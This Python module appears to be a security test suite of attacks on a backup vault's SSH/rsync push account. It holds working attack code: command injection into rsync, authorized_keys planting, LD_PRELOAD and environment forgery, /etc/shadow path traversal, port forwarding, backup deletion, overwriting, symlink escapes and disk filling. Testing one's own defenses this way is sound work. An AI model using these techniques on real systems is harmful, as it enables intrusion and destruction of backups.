"""Attacks through the account that production pushes its backups by."""

from attempt import IN

PORT = 7070
LISTENS = "grep -qi ':%04X .* 0A ' /proc/net/tcp && echo listener" % PORT
# Where the documentation has the vault's own generations.
STORED = "/srv/backups/generations/push"


def command(a):
    a.machine()
    a.machine(command="/bin/sh -c '%s'" % IN)


def terminal(a):
    a.machine("-tt", command=None, text=IN + "\nexit\n")


def forward(a):
    a.machine("-W", "127.0.0.1:8080", command=None)
    a.machine("-N", "-o", "ExitOnForwardFailure=yes", "-W", "[::1]:22",
              command=None)


def forward_socket(a):
    a.sh('''
	ssh -i "$1" -o IdentitiesOnly=yes -o BatchMode=yes -N \\
	    -L "127.0.0.1:$3:/run/inner.sock" "push-prod@$2" &
	for n in $(seq 100); do
		sleep 0.05
		kill -0 $! 2>/dev/null || break
		{ exec 5<>"/dev/tcp/127.0.0.1/$3"; } 2>/dev/null || continue
		read -r -t 2 line <&5
		echo "$line"
		break
	done
	kill $! 2>/dev/null; wait''', a.vault.push_key, a.vault.address,
         str(9000 + len(a.vault.name)))


def reverse(a):
    a.leave_running(
        "ssh", "-i", a.vault.push_key, "-o", "IdentitiesOnly=yes", "-o",
        "BatchMode=yes", "-o", "ExitOnForwardFailure=yes", "-N", "-R",
        "127.0.0.1:%d:127.0.0.1:22" % PORT,
        "push-prod@" + a.vault.address)
    try:
        a.said += a.running[-1].communicate(timeout=3)[0]
    except Exception:  # it runs on: did it get its listener?
        pass
    a.seen_on_vault(LISTENS)


def new_key(a):
    a.sh('cd "$1" && rm -f k k.pub && '
         "ssh-keygen -q -t ed25519 -N '' -C loot -f k", a.room)


LOOT_KEY = ('grep -lq loot "$(getent passwd push-prod | cut -d : -f 6)"'
            "/.ssh/authorized_keys && echo loot")


def copy_key(a):
    new_key(a)
    key = a.room + "/k"
    a.prod.write(a.room + "/batch", "mkdir .ssh\nput %s.pub "
                 ".ssh/authorized_keys\n" % key)
    options = ["-i", a.vault.push_key, "-o", "IdentitiesOnly=yes", "-o",
               "BatchMode=yes"]
    to = "push-prod@" + a.vault.address
    for words in (["sftp", *options, "-b", a.room + "/batch", to],
                  ["scp", *options, key + ".pub",
                   to + ":.ssh/authorized_keys"],
                  ["scp", "-O", *options, key + ".pub",
                   to + ":.ssh/authorized_keys"]):
        a.said += a.prod.run(*words).text
    a.seen_on_vault(LOOT_KEY)
    a.machine(key=key)


def sync_home(a):
    new_key(a)
    a.sh('''cd "$1" && mkdir -p home/.ssh && cp k.pub home/.ssh/authorized_keys
	echo 'touch /tmp/rc-ran' >home/.ssh/rc
	echo 'LD_PRELOAD=/tmp/x' >home/.ssh/environment
	echo 'SSH_AUTH_INFO_0 DEFAULT=publickey' >home/.pam_environment''',
         a.room)
    home = a.vault.machine.sh("getent passwd push-prod | cut -d : -f 6"
                              ).out.strip()
    for place in ("", "/", "../", "../../", "../..%s/" % home, home + "/",
                  "~/", "x/../../"):
        a.rsync("-r", a.room + "/home/", "REMOTE:" + place)
    a.machine(key=a.room + "/k")
    a.rsync("-r", a.room + "/home/", "REMOTE:")
    a.seen_on_vault(LOOT_KEY)
    a.seen_on_vault("[ ! -e /tmp/rc-ran ] || echo rc")


def forged(a):
    line = "SSH_AUTH_INFO_0=publickey ssh-ed25519 AAAA"
    grant = "BULKHEAD_GRANT=0123456789abcdef0123456789abcdef"
    env = ["-o", 'SetEnv="%s" "%s" "LD_PRELOAD=/tmp/x.so"' % (line, grant)]
    a.machine(*env, command="sudo -n sh -c '%s'" % IN)
    a.machine(*env, command="su alice -c '%s'" % IN)


def other_login(a):
    for user in ("alice", "root", "bulkhead"):
        a.machine(user=user)


def other_source(a):
    net = a.vault.prod_address.rsplit(".", 1)[0]
    link = "to-" + a.vault.name
    a.prod.must("ip", "addr", "add", net + ".77/24", "dev", link)
    a.undo.append(lambda: a.prod.run("ip", "addr", "del", net + ".77/24",
                                     "dev", link))
    a.sh('''echo x >"$1/x"
	rsync -e "ssh -b $3 -i $4 -o IdentitiesOnly=yes -o BatchMode=yes" \\
	    "$1/x" "push-prod@$2:elsewhere" && echo "in: push@$5.test"''',
         a.room, a.vault.address, net + ".77", a.vault.push_key,
         a.vault.name)


def retired(a):
    """The host of this key was given up, and its account had an end: a day
    ago.  She was at work since."""
    a.vault.time_passes(2 * 86400)
    a.vault.owner_in()
    a.vault.mark()
    a.vault.clock_wrong(-8 * 86400)
    a.undo.append(lambda: a.vault.clock_wrong(0))
    a.sh('''rsync -e "ssh -i $3 -o IdentitiesOnly=yes -o BatchMode=yes" \\
	    /etc/hostname "push-old@$2:" && echo "in: push-old@$4.test"''',
         a.room, a.vault.address, "/root/.ssh/push_old", a.vault.name)


def injection(a):
    server = "rsync --server -vlogDtpre.iLsfxC . "
    for words in (server + "; " + IN, server + "$(%s)" % IN,
                  server + "`%s`" % IN, server + "x\n" + IN,
                  server + "--rsh='sh -c \"%s\"'" % IN,
                  "rsync --server --daemon --config=/proc/self/environ .",
                  "rsync --server --rsync-path='%s' . x" % IN):
        a.machine(command=words)
    for path in ("/etc/shadow", "../../../../etc/shadow",
                 "x/../../../../../etc/shadow"):
        a.rsync("REMOTE:" + path, a.room + "/shadow")
    if a.prod.sh('grep -q "^root:" "$1/shadow"', a.room).code == 0:
        a.said += "\nin: shadow@%s.test\n" % a.vault.name


def delete(a):
    a.sh('mkdir -p "$1/empty"', a.room)
    for place in [n + "/" for n in a.remote_names()] + ["", "/"]:
        a.rsync("-a", "--delete", "--force", a.room + "/empty/",
                "REMOTE:" + place)


def garbage(a, paths):
    """A tree of these files, all of them garbage."""
    a.sh('rm -rf "$1/g"; shift; for f; do mkdir -p "$(dirname "$f")"; '
         'head -c 5000 /dev/urandom >"$f"; done', a.room,
         *["%s/g/%s" % (a.room, p) for p in paths])
    a.prod.must("mkdir", "-p", a.room + "/g")


def overwrite(a):
    paths = ["dump", "accounts"]
    for name in a.remote_names():
        paths += [name + "/dump", name + "/accounts"]
    garbage(a, paths)
    a.rsync("-a", "--inplace", "--ignore-times", a.room + "/g/", "REMOTE:")
    a.rsync("-a", "--inplace", "--append", a.room + "/g/", "REMOTE:")


def symlink(a):
    a.sh('''cd "$1" && rm -rf way && mkdir way && cd way &&
	ln -s /srv/backups/generations generations && ln -s / root &&
	ln -s ../../generations up''', a.room)
    a.rsync("-rl", a.room + "/way/", "REMOTE:")
    garbage(a, ["generations/push/000003/dump", "up/push/000003/dump",
                "root/srv/backups/generations/push/000003/dump",
                "root/tmp/through"])
    a.rsync("-rK", "--inplace", a.room + "/g/", "REMOTE:")
    for way in ("generations", "up", "root" + STORED.removesuffix("/push")):
        a.rsync("--inplace", a.room + "/g/root/tmp/through",
                "REMOTE:%s/push/000003/dump" % way)
    a.seen_on_vault("[ ! -e /tmp/through ] || echo through")


def hardlink(a):
    """The same bytes as a link to the older ones; then over the bytes."""
    a.sh('rm -rf "$1/h" && cp -a /srv/db "$1/h"', a.room)
    names = a.remote_names()
    old = ["--link-dest=/" + n for n in names[-3:]] or [
        "--link-dest=%s/%06d" % (place, n) for n in (4, 5, 6)
        for place in (STORED, "../../backups/generations/push")][:6]
    a.rsync("-a", *old, a.room + "/h/", "REMOTE:zz-tonight/")
    garbage(a, ["dump", "accounts"])
    a.rsync("-r", "--inplace", "--ignore-times", a.room + "/g/",
            "REMOTE:zz-tonight/")


def dates(a):
    names = a.remote_names() or ["prod", "push", "pull", "generations"]
    a.sh('rm -rf "$1/d"; mkdir -p "$1/d"; cd "$1/d"; shift; mkdir "$@"; '
         'touch -d 1970-02-01 "$@" .', a.room, *names)
    a.rsync("-dt", a.room + "/d/", "REMOTE:")


def flood(a):
    a.sh('''rm -rf "$1/f"; mkdir "$1/f"; cd "$1/f"
	for n in $(seq 40); do mkdir "2099-$n"; echo x >"2099-$n/dump"; done
	for n in $(seq 40); do mkdir "9999$n"; echo x >"9999$n/dump"; done''',
         a.room)
    a.rsync("-r", a.room + "/f/", "REMOTE:")


def fill(a):
    a.sh('''mkdir -p "$1/b"
	[ -e "$1/b/8" ] || for n in 1 2 3 4 5 6 7 8; do
		head -c 8000000 /dev/zero >"$1/b/$n"
	done''', a.room)
    a.undo.append(lambda: a.prod.run("rm", "-rf", a.room + "/b"))
    a.rsync("-r", a.room + "/b/", "REMOTE:")
